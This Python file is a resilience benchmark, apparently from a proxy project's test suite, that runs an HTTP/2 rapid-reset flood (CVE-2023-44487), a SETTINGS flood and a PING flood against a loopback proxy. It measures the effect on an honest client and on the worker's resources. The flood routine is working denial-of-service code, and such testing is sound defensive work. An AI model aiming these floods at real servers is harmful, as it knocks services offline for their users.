"""
HTTP/2 floods against one proxy worker, with an honest client beside the attacker:

- rapid reset (CVE-2023-44487): open a stream and reset it at once, as fast as the socket
  takes it, for a few seconds, then leave (the attacker is a user of his own, with a token
  the counting gateway accepts);
- SETTINGS flood and PING flood: control frames the server must answer, as fast as it goes.

For each: the honest client's p50 and worst request during the flood (its quiet figures are
the baseline of the same run), the worker's RSS before and after, the requests the gateway got
from the attacker (at the attacker's exit and a few seconds later: work done for cancelled
streams), the worker's CPU and open files once the attacker has gone. The attacker reconnects
whenever the proxy closes it. `--tree` measures another checkout (a worktree of an older
commit) with this harness.

    .venv/py3.13/bin/python -m tests.benchmarks.h2_floods [--seconds 6]

Loopback only: a counting gateway (plain HTTP) and the proxy, both started here.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import os
import signal
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import httpx

from tests.benchmarks.__main__ import TOKEN
from tests.benchmarks.__main__ import cpu_seconds
from tests.benchmarks.__main__ import free_port
from tests.benchmarks.__main__ import rss_mb
from tests.benchmarks.__main__ import wait_port

HOST = "api.openai.com"
BODY = b'{"model":"m","messages":[]}'
ATTACKER = "attacker-"  # each flood's attacker is a user of his own: attacker-<flood>
SETTINGS_FRAME = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # empty SETTINGS on stream 0
PING_FRAME = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"\x00" * 8


# -- the gateway: counts what reaches it ------------------------------------------------------


def serve_gateway(port: int) -> None:
    from aiohttp import web

    count = 0

    async def handle(request: web.Request) -> web.Response:
        nonlocal count
        if request.path == "/api/v2/users/me":  # the attacker is a user of his own
            token = request.headers.get("Coder-Session-Token", "")
            user = token if token.startswith(ATTACKER) else "bench"
            return web.json_response({"id": user, "username": user})
        if request.path == "/_count":
            return web.json_response({"count": count})
        count += 1
        await request.read()
        return web.json_response({"id": "x", "choices": [], "usage": {"prompt_tokens": 1}})

    async def main() -> None:
        app = web.Application(client_max_size=0)
        app.router.add_route("*", "/{tail:.*}", handle)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", port, backlog=4096).start()
        await asyncio.Event().wait()

    asyncio.run(main())


def gateway_count(port: int) -> int:
    return httpx.get(f"http://127.0.0.1:{port}/_count", trust_env=False).json()["count"]


def open_files(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


# -- the clients ----------------------------------------------------------------------------------


def h2_socket(proxy_port: int, kind: str) -> ssl.SSLSocket | None:
    """An h2 connection through the proxy as this flood's attacker, or None when the CONNECT
    is refused."""
    raw = socket.create_connection(("127.0.0.1", proxy_port), timeout=10)
    auth = base64.b64encode(f"coder:{ATTACKER}{kind}-0123456789".encode()).decode()
    raw.sendall(
        f"CONNECT {HOST}:443 HTTP/1.1\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode()
    )
    if not raw.recv(4096).startswith(b"HTTP/1.1 200"):
        raw.close()
        return None
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(raw, server_hostname=HOST)
    assert sock.selected_alpn_protocol() == "h2"
    return sock


def attack(proxy_port: int, kind: str, seconds: float) -> dict:
    """Flood for `seconds`, as a persistent attacker would: a connection the proxy closes is
    opened again at once. What was sent, on how many connections."""
    sent, connections, closed, refused = 0, 0, 0, 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        outcome = flood_one_connection(proxy_port, kind, deadline)
        if outcome is None:  # the CONNECT was refused: hammer on
            refused += 1
            time.sleep(0.01)
            continue
        connections += 1
        sent, closed = sent + outcome[0], closed + outcome[1]
    return {"sent": sent, "connections": connections, "closed_by_the_proxy": closed,
            "connects_refused": refused}  # fmt: skip


def flood_one_connection(proxy_port: int, kind: str, deadline: float) -> tuple[int, bool] | None:
    sock = h2_socket(proxy_port, kind)
    if sock is None:
        return None
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "POST"), (":path", "/v1/chat/completions"), (":scheme", "https"),
               (":authority", HOST), ("content-type", "application/json")]  # fmt: skip
    sent = 0
    try:
        while time.monotonic() < deadline:
            if kind == "rapid_reset":
                for _ in range(50):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                data = conn.data_to_send()
            else:
                frame = SETTINGS_FRAME if kind == "settings" else PING_FRAME
                data, sent = frame * 200, sent + 200
            sock.settimeout(1)
            try:
                sock.sendall(data)
            except TimeoutError:
                return sent, True  # the proxy stopped reading: it has given up on us
            sock.setblocking(False)
            try:
                while sock.recv(1 << 16):  # drain what the proxy answers
                    pass
                return sent, True  # recv gave b"": the proxy closed it
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        return sent, True
    finally:
        sock.close()
    return sent, False


class HonestClient(threading.Thread):
    """Sequential routed requests over HTTP/1.1 through the proxy; latencies recorded."""

    def __init__(self, proxy_port: int):
        super().__init__(daemon=True)
        self.proxy = f"http://coder:{TOKEN}@127.0.0.1:{proxy_port}"
        self.latencies: list[float] = []
        self.failures = 0
        self.sent = 0
        self.stop = threading.Event()

    def run(self) -> None:
        with httpx.Client(proxy=self.proxy, verify=False, timeout=30, trust_env=False) as c:
            while not self.stop.is_set():
                t0 = time.monotonic()
                self.sent += 1
                try:
                    r = c.post(f"https://{HOST}/v1/chat/completions", content=BODY,
                               headers={"content-type": "application/json"})  # fmt: skip
                    ok = r.status_code == 200
                except httpx.HTTPError:
                    ok = False
                if ok:
                    self.latencies.append(time.monotonic() - t0)
                else:
                    self.failures += 1
                time.sleep(0.02)


def honest_during(proxy_port: int, seconds: float, action) -> tuple[dict, object]:
    """The honest client's figures over `seconds`, while `action` runs beside it."""
    client = HonestClient(proxy_port)
    client.start()
    time.sleep(0.5)  # its connection is up before the action starts
    client.latencies.clear()
    warm_up = client.sent
    client.sent = 0
    started = time.monotonic()
    result = action()
    time.sleep(max(0.0, seconds - (time.monotonic() - started)))
    client.stop.set()
    client.join(35)
    lat = sorted(client.latencies)
    figures = {
        "requests": len(lat),
        "failures": client.failures,
        "sent_in_all": client.sent + warm_up,  # the warm-up's too, for the gateway's count
        "p50_ms": round(statistics.median(lat) * 1000, 1) if lat else None,
        "worst_ms": round(lat[-1] * 1000, 1) if lat else None,
    }
    return figures, result


def main() -> None:
    ap = argparse.ArgumentParser(prog="python -m tests.benchmarks.h2_floods")
    ap.add_argument("--seconds", type=float, default=6.0, help="length of each flood")
    ap.add_argument("--tree", type=Path, default=Path(__file__).resolve().parents[2],
                    help="the checkout whose proxy is measured")  # fmt: skip
    args = ap.parse_args()
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    gw_port, port = free_port(), free_port()
    gateway = subprocess.Popen([sys.executable, "-m", "tests.benchmarks.h2_floods", "--gateway",
                                str(gw_port)], env=env)  # fmt: skip
    results: dict = {}
    with tempfile.TemporaryDirectory() as state:
        proxy = subprocess.Popen(
            [sys.executable, "-m", "proxy", "serve", "--workers", "1",
             "--gateway", f"http://127.0.0.1:{gw_port}", "--listen", f"127.0.0.1:{port}",
             "--admin-listen", "off", "--state-dir", state],
            cwd=args.tree, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            wait_port(gw_port)
            wait_port(port)
            results["quiet"], _ = honest_during(port, args.seconds, lambda: None)
            results["quiet"].pop("sent_in_all")
            for kind in ("rapid_reset", "settings", "ping"):
                rss_before, files_before = rss_mb(proxy.pid), open_files(proxy.pid)
                count_before = gateway_count(gw_port)
                honest, sent = honest_during(
                    port, args.seconds, lambda k=kind: attack(port, k, args.seconds)
                )
                honest_sent = honest.pop("sent_in_all")
                at_exit = gateway_count(gw_port) - count_before - honest_sent
                cpu0 = cpu_seconds(proxy.pid)
                time.sleep(5)
                entry = {
                    "honest": honest,
                    **sent,
                    "rss_mb_before": round(rss_before, 1),
                    "rss_mb_after": round(rss_mb(proxy.pid), 1),
                    "open_files_before": files_before,
                    "open_files_5s_after": open_files(proxy.pid),
                    "worker_cpu_5s_after": round(cpu_seconds(proxy.pid) - cpu0, 2),
                    "attacker_requests_at_gateway": at_exit,
                    "attacker_requests_at_gateway_5s_after": (
                        gateway_count(gw_port) - count_before - honest_sent
                    ),
                }
                quiet = results["quiet"]
                if honest["p50_ms"] and quiet["p50_ms"]:
                    entry["p50_ratio"] = round(honest["p50_ms"] / quiet["p50_ms"], 2)
                    entry["worst_ratio"] = round(honest["worst_ms"] / quiet["worst_ms"], 2)
                results[kind] = entry
                print(kind, json.dumps(entry), file=sys.stderr)
        finally:
            proxy.send_signal(signal.SIGTERM)
            try:
                proxy.wait(30)
            except subprocess.TimeoutExpired:
                results["proxy_stopped_on_sigterm"] = False
                proxy.kill()
            gateway.terminate()
            gateway.wait(10)
    print(json.dumps(results, indent=2))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--gateway":
        serve_gateway(int(sys.argv[2]))
    else:
        main()
